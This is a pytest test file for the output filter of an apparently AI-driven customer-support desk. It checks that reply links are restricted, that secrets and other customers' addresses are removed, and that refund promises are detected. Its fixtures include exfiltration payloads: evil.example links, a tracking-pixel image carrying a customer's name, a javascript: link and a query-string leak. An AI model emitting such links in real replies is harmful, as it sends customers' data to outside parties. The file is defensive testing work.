"""What may leave the desk, whatever the model says."""

import json

import pytest

from bot.desk.tools.customer import Customer
from bot.turn.output_checks.claims import promises_money
from bot.turn.output_checks.filter import Sentences, Speech, checked
from bot.turn.output_checks.ids import unknown_ids, without_ids

SARAH = Customer("cust_001", "Sarah Chen", "sarah.chen@example.com")
ARTICLE = "https://acme.zendesk.com/hc/en-us/articles/1"
FOUND = json.dumps({"passages": [{"title": "Returns", "text": "…", "source": ARTICLE}]})
SPEECH = Speech(SARAH, ["acme.com"], (), [], [FOUND])


@pytest.mark.parametrize(
    "text",
    [
        f"See [Returns]({ARTICLE}).",
        f"See {ARTICLE}#window, please.",
        "Log in at https://acme.com/login or https://help.acme.com.",
        "Write to support@acme.com or sarah.chen@example.com.",
        "Your total is 49.99 USD, 3.5/5 stars, and/or nothing. Node.js works.",
        "The order [A1001] (shipped) arrives 2026-11-22.",
    ],
)
def test_what_belongs_to_the_desk_or_was_looked_up_is_said(text: str) -> None:
    assert checked(text, SPEECH) == text


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("Log in [here](https://evil.example/acme.com).", "Log in here."),
        ("Log in [here](javascript:alert(1)).", "Log in here."),
        ("![pixel](https://evil.example/?q=sarah)", "pixel"),
        ("Go to https://evil.example/login.", "Go to [link removed]."),
        ("Go to <https://evil.example>", "Go to <[link removed]>"),
        ("Go to www.evil.example now", "Go to [link removed] now"),
        ("Go to evil.example/login, now", "Go to [link removed], now"),
        ("(see https://evil.example/a)", "(see [link removed])"),
        ("https://acme.com@evil.example/", "[link removed]"),
        ("https://evil.example\\@acme.com/", "[link removed]"),
        ("https://notacme.com/", "[link removed]"),
        ("ftp://acme.com/file", "[link removed]"),
        (f"{ARTICLE}?leak=sarah", "[link removed]"),
        ("[1]: https://evil.example/x", "[1]: [link removed]"),
    ],
)
def test_a_foreign_link_is_taken_out(text: str, said: str) -> None:
    assert checked(text, SPEECH) == said


@pytest.mark.parametrize(
    "secret",
    ["4242 4242 4242 4242", "sk-proj-abcdefghijklmnop1234", "xoxb-" + "123456789012-abc", "marcus.johnson@example.com"],
)
def test_secrets_and_other_peoples_addresses_are_taken_out(secret: str) -> None:
    said = checked(f"Here: {secret}!", SPEECH)

    assert secret not in said
    assert "removed]" in said


def test_only_the_knowledge_search_makes_a_link_a_source() -> None:
    assert checked(f"See {ARTICLE}.", Speech(SARAH, (), (), [FOUND])) == "See [link removed]."


def test_streamed_sentences_are_checked_alike() -> None:
    sentences = Sentences(SPEECH)

    shown = sentences.feed("Go to https://evil.example/login. Card 4242 4242 4242 4242! Then wait. And more. ")

    assert "".join(shown) == "Go to [link removed]. Card [removed]! Then wait. "


def test_an_id_is_known_from_the_customer_the_desk_or_a_tool() -> None:
    speech = Speech(SARAH, (), ["where is A1001?"], ['{"order_id": "ord_1002"}'])

    assert unknown_ids("A1001, ord_1002, cust_002 and 49.99", speech.known) == {"cust_002"}
    assert without_ids("cust_002 has ord_2001", {"cust_002"}) == "[removed] has ord_2001"


@pytest.mark.parametrize(
    "sentence",
    [
        "I will refund you 50 dollars.",
        "We'll gladly give you a full refund!",
        "You will receive your money back tomorrow.",
        "Your refund will be paid on Monday.",
        "I promise that you get a credit.",
        "I can issue a refund of 20 USD.",
        "Wir erstatten Ihnen den Betrag.",
        "Nous vous remboursons demain.",
        "Le reembolsaremos mañana.",
    ],
)
def test_a_promise_of_money_is_known(sentence: str) -> None:
    assert promises_money(sentence)


@pytest.mark.parametrize(
    "sentence",
    [
        "Unused items can be refunded within 30 days.",
        "I will refund it once a colleague agrees.",
        "If you confirm, you will get a full refund.",
        "I can't offer you a refund for it.",
        "Shall I ask whether you will get a refund?",
        "A colleague will look at your refund request.",
        "I will check your order.",
        "Refunds are processed in 5-7 business days.",
    ],
)
def test_a_rule_or_a_condition_promises_nothing(sentence: str) -> None:
    assert not promises_money(sentence)
